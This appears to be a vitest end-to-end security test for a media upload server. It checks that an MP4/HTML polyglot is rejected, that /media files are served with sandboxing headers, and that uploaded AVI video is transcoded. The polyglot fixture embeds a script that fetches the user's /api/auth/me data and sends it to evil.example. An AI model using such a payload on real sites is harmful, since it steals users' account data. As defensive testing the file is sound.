// An attacker's uploads against a real server process: a file that starts as an MP4 (an `ftyp`
// box, all that magic bytes look at) and goes on as an HTML page is refused; whatever /media
// serves is inert when opened on its own (a sandboxed document that may load nothing, never
// sniffed, embeddable only by this site, saved under a name the uploader did not choose); and
// an uploaded video is transcoded by the server's own background task into the MP4 it promised.
import { existsSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiClient, uploadForm, type TUploadFile } from '../e2e/api-client';
import type { TUploadResponse } from '../shared/schemas/media';
import { createMember, type TApiMember } from './harness/members';
import { startServer, stopAllServers, tempDataDir, type TServerProcess, type TTempDir } from './harness/server-process';

const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

function polyglot(): TUploadFile {
  const ftyp = Buffer.from('000000186674797069736f6d0000020069736f6d69736f32', 'hex');
  const page = Buffer.from(`<!DOCTYPE html><html><body><script>fetch('/api/auth/me').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))</script>${' '.repeat(8192)}</body></html>`);
  return { name: 'holiday.mp4', bytes: new Uint8Array(Buffer.concat([ftyp, page])) };
}

describe('an attacker uploading media to a real server', () => {
  let data: TTempDir;
  let server: TServerProcess;
  let member: TApiMember;

  beforeAll(async () => {
    data = tempDataDir('attacker-media-');
    server = await startServer({ dataDir: data.dir });
    await server.waitReady();
    member = await createMember(server);
  });
  afterAll(async () => {
    await stopAllServers();
    data?.remove();
  });

  it('refuses an MP4 ftyp box followed by HTML with 415 naming the file, storing nothing', async () => {
    const response = await apiClient(server.url).request('POST', '/api/upload', { cookie: member.cookie, form: uploadForm([polyglot()]) });
    expect(response.status).toBe(415);
    expect(await response.json()).toEqual({ message: 'holiday.mp4: The video could not be read: it holds no playable video stream, or the file is damaged' });
    const mediaDir = join(data.dir, 'media');
    const stored = existsSync(mediaDir) ? readdirSync(mediaDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile()) : [];
    expect(stored).toEqual([]);
  });

  it('serves every /media file with a sandbox CSP, same-site CORP, nosniff and a generated inline file name', async () => {
    const api = apiClient(server.url);
    const uploaded: TUploadResponse = await api.uploadFixtures(member.cookie, ['a1111.png', 'clip.avi']);
    const urls = uploaded.files.flatMap((media) => Object.values(media.variants).filter((rendition) => media.status === 'ready' || rendition.mime !== 'video/mp4').map((rendition) => rendition.url));
    expect(urls.length).toBeGreaterThan(3);
    for (const url of urls) {
      const response = await fetch(new URL(url, server.url));
      expect([url, response.status]).toEqual([url, 200]);
      expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
      expect(response.headers.get('cross-origin-resource-policy')).toBe('same-site');
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('content-disposition')).toMatch(/^inline; filename="[\w-]+-[\w-]+\.[a-z0-9]+"$/);
      await response.arrayBuffer();
    }
  });

  it("transcodes an uploaded AVI in the server's background task to the H.264 MP4 at the URL the upload answered, and visitors see it at once", { timeout: 90_000 }, async () => {
    const api = apiClient(server.url);
    const [video] = (await api.uploadFixtures(member.cookie, ['clip.avi'])).files;
    expect(video).toMatchObject({ status: 'processing', mime: 'video/mp4' });
    const project = await api.createProject(member.cookie, { title: 'Koi in AVI', images: [video!.url] });
    // A visitor's copy of the page is cached while the video processes; the task's change must replace it.
    const visitorStatus = async () => (await api.getJson<{ media: { status: string }[] }>(`/api/projects/${project.id}`)).media[0]!.status;
    expect(await visitorStatus()).toBe('processing');
    let status = 'processing';
    for (let waited = 0; status === 'processing' && waited < 60_000; waited += 500) {
      await sleep(500);
      status = (await api.getJson<{ media: { status: string }[] }>(`/api/projects/${project.id}`, member.cookie)).media[0]!.status;
    }
    expect(status).toBe('ready');
    expect(await visitorStatus()).toBe('ready');
    const served = await fetch(new URL(video!.url, server.url));
    expect(served.status).toBe(200);
    expect(served.headers.get('content-type')).toBe('video/mp4');
    const bytes = Buffer.from(await served.arrayBuffer());
    expect(bytes.subarray(4, 8).toString('latin1')).toBe('ftyp');
    expect(bytes.indexOf('avc1')).toBeGreaterThan(0);
  });
});
